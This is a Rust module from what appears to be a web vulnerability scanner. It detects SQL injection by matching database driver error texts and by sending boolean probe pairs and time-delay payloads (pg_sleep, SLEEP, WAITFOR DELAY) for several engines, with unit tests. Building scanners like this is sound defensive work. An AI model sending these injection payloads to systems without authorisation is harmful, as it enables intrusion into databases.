//! What SQL injection looks like from outside: the error texts database
//! drivers put in responses, the true/false payload pairs of boolean probes,
//! and when two answers are "the same" once the sent value is taken out.

use crate::web::echo_as;
use rampart_engine::Response;

/// Error texts of database engines and their drivers, lower-cased. Each names
/// SQL syntax or a driver's error type; none is a generic word like "error".
const ERRORS: &[(&str, &str)] = &[
    ("you have an error in your sql syntax", "MySQL"),
    ("check the manual that corresponds to your mysql", "MySQL"),
    ("warning: mysql_", "MySQL"),
    ("mysqli_sql_exception", "MySQL"),
    ("er_parse_error", "MySQL"),
    ("er_bad_field_error", "MySQL"),
    ("syntax error at or near", "PostgreSQL"),
    ("unterminated quoted string at or near", "PostgreSQL"),
    ("syntax error at end of input", "PostgreSQL"),
    ("pg::syntaxerror", "PostgreSQL"),
    ("org.postgresql.util.psqlexception", "PostgreSQL"),
    ("psycopg2.errors", "PostgreSQL"),
    ("psycopg.errors", "PostgreSQL"),
    ("asyncpg.exceptions", "PostgreSQL"),
    ("sqlite3.operationalerror", "SQLite"),
    ("sqlite_error", "SQLite"),
    ("sqlite.exception", "SQLite"),
    ("unrecognized token:", "SQLite"),
    ("\": syntax error", "SQLite"),
    ("unclosed quotation mark after the character string", "SQL Server"),
    ("incorrect syntax near", "SQL Server"),
    ("microsoft ole db provider for sql server", "SQL Server"),
    ("system.data.sqlclient.sqlexception", "SQL Server"),
    ("ora-00933", "Oracle"),
    ("ora-01756", "Oracle"),
    ("ora-00936", "Oracle"),
    ("quoted string not properly terminated", "Oracle"),
    ("java.sql.sqlexception", "JDBC"),
    ("java.sql.sqlsyntaxerrorexception", "JDBC"),
    ("sqlstate[", "PDO"),
    ("sequelizedatabaseerror", "Sequelize"),
    ("queryfailederror", "TypeORM"),
    ("sqlalchemy.exc.", "SQLAlchemy"),
    ("django.db.utils.", "Django"),
    ("activerecord::statementinvalid", "ActiveRecord"),
];

/// The first database error text in `body` and the engine it names, with the
/// line it appears on (at most 300 characters).
pub fn database_error(body: &str) -> Option<(String, &'static str)> {
    let lower = body.to_lowercase();
    let (needle, engine) = ERRORS.iter().find(|(needle, _)| lower.contains(needle))?;
    let at = lower.find(needle)?;
    let line = body
        .get(..at)
        .and_then(|before| before.rfind('\n'))
        .map_or(0, |start| start + 1);
    let rest = body.get(line..).unwrap_or_default();
    let end = rest.find('\n').unwrap_or(rest.len());
    Some((
        rest[..end].chars().take(300).collect::<String>().trim().to_string(),
        engine,
    ))
}

/// A boolean probe: suffixes appended to the normal value, one making the
/// surrounding condition true, the other false.
#[derive(Debug, Clone, Copy)]
pub struct Pair {
    /// Shown in findings: how the value ends the SQL context.
    pub context: &'static str,
    pub truthy: &'static str,
    pub falsy: &'static str,
}

/// A number compared unquoted (`WHERE id = 5`).
const NUMERIC: Pair = Pair {
    context: "an unquoted number",
    truthy: " AND 1=1",
    falsy: " AND 1=2",
};
/// A quoted string in an equality (`WHERE name = 'alice'`).
const QUOTED: Pair = Pair {
    context: "a quoted string",
    truthy: "' AND 'r'='r",
    falsy: "' AND 'r'='s",
};
/// A quoted string in any position, also `LIKE '%…%'` (PostgreSQL, SQLite and Oracle concatenation).
const CONCAT: Pair = Pair {
    context: "a quoted string, by concatenation",
    truthy: "'||'",
    falsy: "'||'rampart",
};

/// The pairs worth trying on a value: the numeric pair first when it is a number.
pub fn pairs(value: &str, kind: Option<&str>) -> Vec<Pair> {
    if is_numeric(value, kind) {
        vec![NUMERIC, QUOTED, CONCAT]
    } else {
        vec![QUOTED, CONCAT]
    }
}

/// A time probe: appended to the normal value, it makes one database engine
/// sleep `{}` seconds, once per query, where the value ends the SQL context.
#[derive(Debug, Clone, Copy)]
pub struct Sleep {
    pub engine: &'static str,
    /// Shown in findings: how the value ends the SQL context.
    pub context: &'static str,
    pub form: &'static str,
    numeric: bool,
}

/// Each sleeps once per statement: PostgreSQL's and MySQL's in an uncorrelated
/// subquery (evaluated once, not per row), SQL Server's as a statement of its own.
const SLEEPS: &[Sleep] = &[
    Sleep {
        engine: "PostgreSQL",
        context: "an unquoted number",
        form: "+(SELECT 0 FROM pg_sleep({}))",
        numeric: true,
    },
    Sleep {
        engine: "MySQL",
        context: "an unquoted number",
        form: " AND (SELECT 1 FROM (SELECT SLEEP({}))x)",
        numeric: true,
    },
    Sleep {
        engine: "SQL Server",
        context: "an unquoted number",
        form: ";WAITFOR DELAY '0:0:{}'--",
        numeric: true,
    },
    Sleep {
        engine: "PostgreSQL",
        context: "a quoted string",
        form: "'||(SELECT '' FROM pg_sleep({}))||'",
        numeric: false,
    },
    Sleep {
        engine: "MySQL",
        context: "a quoted string",
        form: "' AND (SELECT 1 FROM (SELECT SLEEP({}))x) AND '1'='1",
        numeric: false,
    },
    Sleep {
        engine: "SQL Server",
        context: "a quoted string",
        form: "';WAITFOR DELAY '0:0:{}'--",
        numeric: false,
    },
];

impl Sleep {
    /// The whole value to send: `value` with a sleep of `secs` seconds.
    pub fn payload(&self, value: &str, secs: u64) -> String {
        format!("{value}{}", self.form.replace("{}", &secs.to_string()))
    }
}

/// The time probes worth trying on a value: the numeric ones only on numbers, and first.
pub fn sleeps(value: &str, kind: Option<&str>) -> Vec<Sleep> {
    let numeric = is_numeric(value, kind);
    let mut sleeps: Vec<Sleep> = SLEEPS.iter().filter(|s| numeric || !s.numeric).copied().collect();
    sleeps.sort_by_key(|s| !s.numeric);
    sleeps
}

fn is_numeric(value: &str, kind: Option<&str>) -> bool {
    matches!(kind, Some("integer" | "number")) || (!value.is_empty() && value.parse::<f64>().is_ok())
}

/// `probe` answered like `base`: the same status and body, once the echo of
/// the value `sent` in `probe` is put back to the `original` value (in every
/// spelling an app may echo it: raw, JSON-, HTML- or URL-escaped).
pub fn same(base: &Response, probe: &Response, sent: &str, original: &str) -> bool {
    base.status == probe.status && base.text() == echo_as(&probe.text(), sent, original)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn database_errors_are_named_with_their_line() {
        let body = "Traceback\npsycopg2.errors.SyntaxError: unterminated quoted string at or near \"'\"\nLINE 1";
        let (line, engine) = database_error(body).unwrap();
        assert_eq!(engine, "PostgreSQL");
        assert!(line.starts_with("psycopg2.errors.SyntaxError"), "{line}");
        assert!(database_error(r#"{"error":"no such user"}"#).is_none());
        assert!(database_error("Syntax error in your request").is_none());
        let (_, engine) = database_error(r#"{"message":"near \"x\": syntax error"}"#).unwrap();
        assert_eq!(engine, "SQLite");
    }

    #[test]
    fn numbers_get_the_numeric_pair_first() {
        assert_eq!(pairs("5", None)[0].truthy, " AND 1=1");
        assert_eq!(pairs("abc", Some("integer"))[0].truthy, " AND 1=1");
        assert_eq!(pairs("alice", Some("string")).len(), 2);
    }

    #[test]
    fn sleeps_fit_the_value() {
        let text = sleeps("WELCOME10", Some("string"));
        assert_eq!(text.len(), 3);
        assert_eq!(
            text[0].payload("WELCOME10", 2),
            "WELCOME10'||(SELECT '' FROM pg_sleep(2))||'"
        );
        let number = sleeps("10031", None);
        assert_eq!(number.len(), 6);
        assert_eq!(number[0].payload("10031", 0), "10031+(SELECT 0 FROM pg_sleep(0))");
        assert_eq!(number[2].payload("7", 5), "7;WAITFOR DELAY '0:0:5'--");
        assert!(!number[3].numeric);
    }
}
